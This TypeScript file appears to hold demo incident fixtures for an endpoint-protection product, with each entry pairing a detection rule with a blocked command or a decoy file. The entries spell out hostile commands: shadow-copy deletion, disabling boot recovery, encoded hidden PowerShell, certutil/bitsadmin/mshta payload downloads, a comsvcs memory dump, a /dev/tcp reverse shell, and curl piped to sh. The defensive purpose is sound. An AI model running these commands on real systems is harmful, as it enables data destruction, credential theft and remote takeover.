import type { AlertDetail, RuleKind } from '@egida/contract';

/** What computers of the demonstration meet, by the key of a vaccine of the starter catalogue. */
export interface DemoIncident {
  key: string;
  ruleKind: RuleKind;
  subject: string;
  detail: Omit<AlertDetail, 'pid' | 'rule'>;
}

const command = (key: string, subject: string, image: string, commandLine: string, parentImage: string, user: string) =>
  ({
    key,
    ruleKind: 'commandLines',
    subject,
    detail: { image, commandLine, parentImage, user, action: 'STOPPED' },
  }) as const;
const decoy = (key: string, path: string, user: string) =>
  ({ key, ruleKind: 'filePaths', subject: path, detail: { path, user, action: 'RESTORED' } }) as const;
const program = (key: string, subject: string, image: string, user: string) =>
  ({ key, ruleKind: 'processes', subject, detail: { image, user, action: 'STOPPED' } }) as const;

const system32 = 'C:\\Windows\\System32';
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16';

export const incidents: readonly DemoIncident[] = [
  command(
    'win-ransom-vssadmin-hook',
    'vssadmin.exe',
    `${system32}\\vssadmin.exe`,
    'vssadmin.exe delete shadows /all /quiet',
    'C:\\Users\\Public\\update.exe',
    'jlopez',
  ),
  command(
    'win-ransom-wmic-shadowcopy',
    'WMIC.exe',
    `${system32}\\wbem\\WMIC.exe`,
    'wmic shadowcopy delete /nointeractive',
    'C:\\Users\\Public\\update.exe',
    'jlopez',
  ),
  command(
    'win-ransom-bcdedit-recovery',
    'bcdedit.exe',
    `${system32}\\bcdedit.exe`,
    'bcdedit /set {default} recoveryenabled no',
    `${system32}\\cmd.exe`,
    'SYSTEM',
  ),
  command(
    'win-trojan-emotet-encoded-powershell',
    'powershell.exe',
    `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    `${office}\\WINWORD.EXE`,
    'mgarcia',
  ),
  command(
    'win-exploit-follina-msdt',
    'msdt.exe',
    `${system32}\\msdt.exe`,
    'msdt.exe ms-msdt:/id PCWDiagnostic /skip force',
    `${office}\\WINWORD.EXE`,
    'nmartin',
  ),
  command(
    'win-susp-certutil-download',
    'certutil.exe',
    `${system32}\\certutil.exe`,
    'certutil -urlcache -split -f http://198.51.100.23/a.txt C:\\Users\\Public\\a.exe',
    `${system32}\\cmd.exe`,
    'lsanchez',
  ),
  command(
    'win-susp-mshta-remote',
    'mshta.exe',
    `${system32}\\mshta.exe`,
    'mshta http://203.0.113.77/factura.hta',
    'C:\\Program Files\\7-Zip\\7zFM.exe',
    'rmunoz',
  ),
  command(
    'win-susp-bitsadmin-download',
    'bitsadmin.exe',
    `${system32}\\bitsadmin.exe`,
    'bitsadmin /transfer job http://198.51.100.23/p.exe C:\\ProgramData\\p.exe',
    `${system32}\\cmd.exe`,
    'eibanez',
  ),
  command(
    'win-susp-comsvcs-minidump',
    'rundll32.exe',
    `${system32}\\rundll32.exe`,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
    `${system32}\\cmd.exe`,
    'SYSTEM',
  ),
  command(
    'win-policy-anydesk-silent',
    'AnyDesk.exe',
    'C:\\Users\\jlopez\\Downloads\\AnyDesk.exe',
    'AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --silent',
    `${system32}\\cmd.exe`,
    'jlopez',
  ),
  program(
    'win-policy-tor',
    'tor.exe',
    'C:\\Users\\cdiaz\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe',
    'cdiaz',
  ),
  decoy('win-ransom-notpetya-perfc', 'C:\\Windows\\perfc', 'SYSTEM'),
  decoy('win-worm-usb-autorun', 'E:\\autorun.inf', 'mgarcia'),
  program('lin-trojan-kinsing', 'kdevtmpfsi', '/tmp/kdevtmpfsi', 'www-data'),
  program('lin-trojan-coinminer-cmdline', 'xmrig', '/var/tmp/.x/xmrig', 'tomcat'),
  command(
    'lin-susp-dev-tcp',
    'bash',
    '/usr/bin/bash',
    'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
    '/usr/sbin/apache2',
    'www-data',
  ),
  command(
    'lin-susp-download-exec-tmp',
    'sh',
    '/usr/bin/dash',
    'sh -c curl -s http://198.51.100.23/i.sh | sh',
    '/usr/sbin/cron',
    'www-data',
  ),
  decoy('lin-trojan-xorddos-files', '/lib/libudev.so', 'root'),
];
